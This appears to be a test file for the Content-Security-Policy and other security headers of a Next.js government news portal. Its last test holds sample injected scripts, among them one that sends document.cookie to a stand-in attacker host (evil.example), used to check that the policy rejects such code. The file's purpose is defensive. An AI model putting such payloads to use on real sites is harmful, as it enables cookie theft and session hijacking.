/** The security headers of every response (scripts/headers.mjs), decided without a server. */
import crypto from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'

import { commonHeaders, kindOf, nextScriptHashes, pageCsp, READER_CSP, RESOURCE_CSP, securityHeaders } from '../../scripts/headers.mjs'

const sha256 = (code: string) => `'sha256-${crypto.createHash('sha256').update(code, 'utf8').digest('base64')}'`

/** A request and a response as far as protect() uses them. */
function exchange(url: string, headers: Record<string, string> = {}) {
  const set: Record<string, string> = {}
  const req = { url, headers: { ...headers } } as unknown as IncomingMessage
  const res = { setHeader: (name: string, value: string) => (set[name] = value) } as unknown as ServerResponse
  return { req, res, set }
}

describe('the headers every response carries', () => {
  it('nosniff, the referrer policy, the permissions policy and X-Frame-Options; no HSTS over http', () => {
    const headers = Object.fromEntries(commonHeaders('http://localhost:3000'))
    expect(headers).toEqual({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': expect.stringContaining('camera=(), display-capture=(), geolocation=()'),
      'x-frame-options': 'SAMEORIGIN',
    })
    for (const feature of ['microphone', 'payment', 'usb', 'browsing-topics']) expect(headers['permissions-policy']).toContain(`${feature}=()`)
  })

  it('HSTS when the portal is served over https', () => {
    expect(Object.fromEntries(commonHeaders('https://congthongtin.binhphuoc.gov.vn'))['strict-transport-security']).toBe(
      'max-age=31536000',
    )
    expect(Object.fromEntries(commonHeaders(''))['strict-transport-security']).toBeUndefined()
  })
})

describe('which policy a response gets', () => {
  it('the admin, a page, or a resource (api, media, scripts, static files)', () => {
    expect(['/admin', '/admin/login', '/admin/collections/articles?limit=10'].map(kindOf)).toEqual(['admin', 'admin', 'admin'])
    expect(['/', '/bai-viet/x', '/en', '/tim-kiem?q=so', '/khong-co', '/administrator'].map(kindOf)).toEqual(Array(6).fill('page'))
    expect(['/api/users/me', '/api/images/file/a.jpg', '/portal.js?v=1', '/_next/static/chunks/a.js', '/icon.svg'].map(kindOf)).toEqual(
      Array(5).fill('resource'),
    )
  })

  it('a reader’s page: the strict policy, no inline script, no nonce', () => {
    expect(READER_CSP).toBe(
      "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self' data:; " +
        "connect-src 'self'; frame-src https://www.youtube-nocookie.com https://player.vimeo.com; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'self'",
    )
    const { req, res, set } = exchange('/bai-viet/x')
    securityHeaders('http://localhost')(req, res)
    expect(set['content-security-policy']).toBe(READER_CSP)
  })

  it('a page never passes a CSP header a client sent on to Next, which would write its nonce into a shared page', () => {
    const { req, res } = exchange('/', { 'content-security-policy': "script-src 'nonce-chosen'", 'content-security-policy-report-only': "script-src 'nonce-x'" })
    securityHeaders('')(req, res)
    expect(req.headers['content-security-policy']).toBeUndefined()
    expect(req.headers['content-security-policy-report-only']).toBeUndefined()
  })

  it('the admin: a fresh nonce per request, on the response and on the request for Next', () => {
    const protect = securityHeaders('')
    const nonces = [1, 2].map(() => {
      const { req, res, set } = exchange('/admin/login', { 'content-security-policy': "script-src 'nonce-chosen'" })
      protect(req, res)
      expect(req.headers['content-security-policy']).toBe(set['content-security-policy'])
      expect(set['content-security-policy']).toMatch(/^default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/]{22}=='; /)
      expect(set['content-security-policy']).toContain("frame-ancestors 'self'")
      return /'nonce-([^']+)'/.exec(set['content-security-policy'])![1]
    })
    expect(nonces[0]).not.toBe(nonces[1])
  })

  it('anything not a document runs nothing, even opened directly', () => {
    const { req, res, set } = exchange('/api/images/file/anh.png')
    securityHeaders('https://x.example')(req, res)
    expect(set['content-security-policy']).toBe(RESOURCE_CSP)
    expect(RESOURCE_CSP).toBe("default-src 'none'; frame-ancestors 'self'; sandbox")
    expect(set['x-content-type-options']).toBe('nosniff')
    expect(set['strict-transport-security']).toBe('max-age=31536000')
  })
})

describe('a page that keeps Next’s runtime', () => {
  const bootstrap = '(self.__next_f=self.__next_f||[]).push([0])'
  const flight = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\nTin tức tỉnh\\u003c/p\\u003e"])'
  const turbopack = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["/_next/static/chunks/a.js"],"runtimeModuleIds":[494553]});'

  it('allows Next’s inline scripts by their hashes, tagged or not, in UTF-8', () => {
    const html = [
      `<script id="_R_">${turbopack}</script>`,
      `<script nonce="abc">${bootstrap}</script>`,
      `<script>${flight}</script>`,
      `<script>${flight}</script>`,
    ].join('')
    expect(nextScriptHashes(Buffer.from(html))).toEqual([sha256(turbopack), sha256(bootstrap), sha256(flight)])
    expect(pageCsp(nextScriptHashes(html))).toBe(READER_CSP.replace("script-src 'self'", `script-src 'self' ${[turbopack, bootstrap, flight].map(sha256).join(' ')}`))
  })

  it('allows no other inline code: not injected code, not code dressed as Next’s, not data', () => {
    const html = [
      '<script>alert(document.cookie)</script>',
      '<script>self.__next_f.push(fetch("//evil.example?"+document.cookie))</script>',
      '<script>self.__next_f.push([1]);alert(1)//)</script>',
      '<script>$RC("B:0","S:0")</script>',
      '<script type="application/ld+json">{"@type":"NewsArticle"}</script>',
      `<script src="/_next/static/chunks/a.js">${bootstrap}</script>`,
    ].join('')
    expect(nextScriptHashes(html)).toEqual([])
    expect(pageCsp([])).toBe(READER_CSP)
  })
})
